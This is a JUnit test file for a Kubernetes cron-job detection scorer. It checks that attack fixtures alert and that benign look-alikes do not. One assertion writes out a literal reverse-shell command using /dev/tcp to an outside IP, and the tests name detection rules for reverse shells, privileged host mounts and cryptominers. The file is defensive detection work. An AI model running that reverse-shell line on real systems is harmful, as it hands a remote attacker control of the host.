package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.ingest.EventClassifier;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Severity;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The default rules against the seed queries' attack cases and their benign look-alikes (fixtures/score/). */
class ScorerTest {
    static final Scorer SCORER = TestData.defaultScorer();
    static final EventClassifier CLASSIFIER = TestData.classifier();

    static List<ScoredEvent> scoreFixture(String name) {
        TestData.Decoded d = TestData.decodeFile(TestData.resource("fixtures/score/" + name));
        assertThat(d.deadLetters).isEmpty();
        return d.events.stream().map(e -> SCORER.score(e, CLASSIFIER.classify(e))).collect(Collectors.toList());
    }

    static Map<String, ScoredEvent> byName(List<ScoredEvent> list) {
        return list.stream().collect(Collectors.toMap(s -> s.event().name(), Function.identity()));
    }

    static List<String> rules(ScoredEvent s) {
        return s.signals().stream().map(Signal::rule).collect(Collectors.toList());
    }

    @Test
    void theFourAtomicRedTeamStyleCasesAlert() {
        Map<String, ScoredEvent> s = byName(scoreFixture("attacks.jsonl"));
        assertThat(s).containsOnlyKeys("metrics-sync", "node-debug", "registry-cleanup", "cache-warmer");
        s.values().forEach(e -> assertThat(e.alertable()).as(e.event().name()).isTrue());

        ScoredEvent reverseShell = s.get("metrics-sync");
        assertThat(rules(reverseShell)).contains("reverse-shell-dev-tcp", "interactive-shell");
        Signal tcp = reverseShell.signals().stream().filter(x -> x.rule().equals("reverse-shell-dev-tcp")).findFirst().orElseThrow();
        assertThat(tcp.path()).isEqualTo("responseObject.spec.jobTemplate.spec.template.spec.containers[0].command+args");
        assertThat(tcp.value()).isEqualTo("/bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");

        ScoredEvent privileged = s.get("node-debug");
        assertThat(rules(privileged)).contains("privileged-container", "hostpath-volume", "sensitive-mount");
        assertThat(privileged.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(privileged.signals()).filteredOn(x -> x.id().equals("sensitive-mount"))
                .singleElement().satisfies(x -> {
                    assertThat(x.path()).isEqualTo("requestObject.spec.template.spec.volumes[0].hostPath.path");
                    assertThat(x.value()).isEqualTo("/etc");
                });

        assertThat(rules(s.get("registry-cleanup"))).contains("hostpath-volume", "sensitive-mount");
        assertThat(rules(s.get("cache-warmer"))).contains("download-chmod-exec", "cryptominer");
    }

    @Test
    void benignLookAlikesRaiseNothing() {
        List<ScoredEvent> benign = scoreFixture("benign.jsonl");
        // The controller's status update never reaches the scorer: the decoder drops it as a subresource.
        assertThat(benign).extracting(x -> x.event().name()).containsExactlyInAnyOrder("report-builder", "pg-backup");
        for (ScoredEvent e : benign) {
            assertThat(e.alertable()).as(e.event().name() + " " + e.signals()).isFalse();
        }
        ScoredEvent notPrivileged = byName(benign).get("report-builder");
        assertThat(notPrivileged.signals()).extracting(Signal::id).doesNotContain("privileged-container");
        // pg_dump behind "sh -c" with /etc/pg mounted from a ConfigMap: only the weak shell-wrapper hint.
        assertThat(rules(byName(benign).get("pg-backup"))).containsExactly("shell-wrapper");
    }

    @Test
    void refusedAndBodilessEventsAreReportedAsSuch() {
        Map<String, ScoredEvent> s = byName(scoreFixture("other-kinds.jsonl"));
        ScoredEvent attempt = s.get("miner");
        assertThat(attempt.role()).isEqualTo(EventRole.ATTEMPT);
        assertThat(attempt.alertable()).isTrue();
        ScoredEvent unscored = s.get("ledger-export");
        assertThat(unscored.event().bodiless()).isTrue();
        assertThat(unscored.alertable()).isTrue();
        assertThat(unscored.signals()).isEmpty();
        assertThat(unscored.severity()).isEqualTo(Severity.LOW);
    }

    @Test
    void spawnsAreScoredButNeverAlertOnTheirOwn() {
        WorkloadEvent e = scoreFixture("attacks.jsonl").get(0).event();
        ScoredEvent asSpawn = SCORER.score(e, EventRole.SPAWN);
        assertThat(asSpawn.score()).isGreaterThanOrEqualTo(SCORER.rules().alertThreshold());
        assertThat(asSpawn.alertable()).isFalse();
    }

    @Test
    void scoreTakesTheStrongestRuleOfEachSignal() {
        List<Signal> signals = List.of(
                new Signal("shell-command", "a", 60, "p", "v"),
                new Signal("shell-command", "b", 40, "p", "v"),
                new Signal("host-network", "host-network", 15, "p", "v"));
        assertThat(Scorer.total(signals)).isEqualTo(75);
    }
}
